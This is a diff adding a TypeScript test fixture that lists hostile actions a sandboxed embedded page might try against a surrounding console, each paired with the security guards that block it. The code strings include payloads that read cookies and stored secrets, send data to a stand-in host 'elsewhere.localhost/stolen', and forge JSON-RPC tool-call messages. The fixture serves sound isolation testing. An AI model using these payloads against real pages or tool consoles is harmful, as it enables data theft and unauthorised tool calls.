@@ -1,0 +1,150 @@
+import type { Missing } from './sandboxed';
+
+/** What a hostile view tries. `code` runs in it, as the body of an asynchronous function: what it returns, it has got hold of. */
+export interface Attempt {
+  readonly name: string;
+  readonly code: string;
+  /** Where it shows that the attempt has come to nothing, if not in what `code` says: the frame is taken away. */
+  readonly endsIn?: 'no frame';
+  /** The guards without which it succeeds. */
+  readonly without: Missing;
+}
+
+const elsewhere = 'http://elsewhere.localhost/stolen';
+const directive = (name: string, value = '*') => ({
+  policy: (policy: string) => policy.replace(new RegExp(`(^|; )${name} [^;]*`), `$1${name} ${value}`),
+});
+const inner = (tokens: string) => (page: string) => page.replace(`'allow-scripts'`, `'allow-scripts ${tokens}'`);
+const withOrigin = { page: inner('allow-same-origin') };
+const event = (make: string) => `return new Promise((resolve, reject) => { ${make} });`;
+
+export const attempts: readonly Attempt[] = [
+  { name: 'reads the document of the sandbox around it', code: 'return parent.document.title;', without: withOrigin },
+  {
+    name: 'reads document, cookies and storage of the console',
+    code: `return top.document.title + top.document.cookie + top.localStorage.getItem('secret');`,
+    without: { ...withOrigin, sameOrigin: true },
+  },
+  {
+    name: 'keeps something in storage',
+    code: `localStorage.setItem('kept', 'x'); return localStorage.getItem('kept');`,
+    without: withOrigin,
+  },
+  {
+    name: 'leads the whole window elsewhere',
+    code: `top.location.href = '${elsewhere}'; await pause(300);`,
+    without: {
+      frame: 'allow-top-navigation',
+      page: inner('allow-top-navigation'),
+      policy: (policy) => policy.replace('sandbox allow-scripts', 'sandbox allow-top-navigation allow-scripts'),
+    },
+  },
+  {
+    name: 'opens a window',
+    code: `const w = open('${elsewhere}'); await pause(300); if (!w) throw new Error('no window');`,
+    without: {
+      frame: 'allow-popups',
+      page: inner('allow-popups'),
+      policy: (policy) => policy.replace('sandbox allow-scripts', 'sandbox allow-popups allow-scripts'),
+    },
+  },
+  {
+    name: 'sends a form',
+    code: `const f = document.createElement('form'); f.action = '${elsewhere}'; f.method = 'post'; document.body.append(f); f.submit(); await pause(300);`,
+    without: {
+      frame: 'allow-forms',
+      page: inner('allow-forms'),
+      policy: (policy) =>
+        policy
+          .replace(`; form-action 'none'`, '')
+          .replace(`frame-src 'none'`, 'frame-src *')
+          .replace('sandbox allow', 'sandbox allow-forms allow'),
+    },
+  },
+  { name: 'fetches from elsewhere', code: `await fetch('${elsewhere}', { mode: 'no-cors' });`, without: directive('connect-src') },
+  { name: 'sends a beacon', code: `navigator.sendBeacon('${elsewhere}', 'x'); await pause(300);`, without: directive('connect-src') },
+  {
+    name: 'opens a web socket',
+    code: event(`const s = new WebSocket('ws://elsewhere.localhost/'); s.onerror = reject; s.onopen = resolve;`),
+    without: directive('connect-src', '* ws:'),
+  },
+  {
+    name: 'loads an image',
+    code: event(`const i = new Image(); i.onerror = reject; i.onload = resolve; i.src = '${elsewhere}';`),
+    without: directive('img-src'),
+  },
+  {
+    name: 'loads a script',
+    code: event(
+      `const s = document.createElement('script'); s.onerror = reject; s.onload = resolve; s.src = '${elsewhere}'; document.head.append(s);`,
+    ),
+    without: directive('script-src', `* 'unsafe-inline'`),
+  },
+  {
+    name: 'loads a style sheet',
+    code: event(
+      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = reject; l.onload = resolve; l.href = '${elsewhere}'; document.head.append(l);`,
+    ),
+    without: directive('style-src', `* 'unsafe-inline'`),
+  },
+  { name: 'runs a text as code', code: `return eval('1 + 1');`, without: directive('script-src', `'unsafe-inline' 'unsafe-eval'`) },
+  {
+    name: 'frames a page of elsewhere',
+    code: `const f = document.createElement('iframe'); f.src = '${elsewhere}'; document.body.append(f); await pause(300);`,
+    without: directive('frame-src'),
+  },
+  {
+    name: 'leads its own frame elsewhere',
+    code: `location.href = '${elsewhere}?secret';`,
+    endsIn: 'no frame',
+    without: directive('frame-src'),
+  },
+  {
+    name: 'refreshes itself to elsewhere',
+    code: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${elsewhere}'; document.head.append(m);`,
+    endsIn: 'no frame',
+    without: directive('frame-src'),
+  },
+  {
+    name: 'starts a worker from a blob',
+    code: event(
+      `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onerror = reject; w.onmessage = ({ data }) => resolve(data);`,
+    ),
+    without: directive('worker-src', 'blob:'),
+  },
+  {
+    name: 'registers a service worker',
+    code: `await navigator.serviceWorker.register('http://sandbox.localhost/worker.js'); return 'registered';`,
+    without: { ...withOrigin, ...directive('worker-src') },
+  },
+  {
+    name: 'has camera, microphone, place or clipboard',
+    code: `const powers = ['camera', 'microphone', 'geolocation', 'clipboard-read', 'clipboard-write'].filter((one) => document.featurePolicy.allowsFeature(one));
+      if (powers.length === 0) throw new Error('none'); return powers.join();`,
+    without: { powers: true, page: (page) => page.replace('inner.srcdoc', `inner.allow = 'camera *; geolocation *'; inner.srcdoc`) },
+  },
+  {
+    name: 'calls a tool past the sandbox, as if its own window were the frame of the console',
+    code: `top.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search', arguments: {} } }, '*'); await pause(300);`,
+    without: { anySource: true },
+  },
+  {
+    name: 'speaks to the sandbox as if it were the console',
+    code: `parent.postMessage({ method: 'ui/notifications/sandbox-resource-ready', params: { html: '<title>x</title>' } }, '*'); await pause(300);
+      if (parent.length < 2) throw new Error('no second frame'); return 'a second frame';`,
+    without: { page: (page) => page.replace('source === parent && origin === host', 'true').replace('inner === null', 'true') },
+  },
+  {
+    name: 'speaks to the console as if it were the sandbox',
+    code: `parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*'); await pause(300);`,
+    without: { page: (page) => page.replace('!methodOf(data).startsWith(own)', 'true') },
+  },
+  {
+    name: 'calls a tool that is not there for pages',
+    code: event(
+      `addEventListener('message', ({ data }) => data.error ? reject(data.error) : resolve('called'));
+      parent.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'save_campaign', arguments: {} } }, '*');`,
+    ),
+    without: { anyTool: true },
+  },
+];
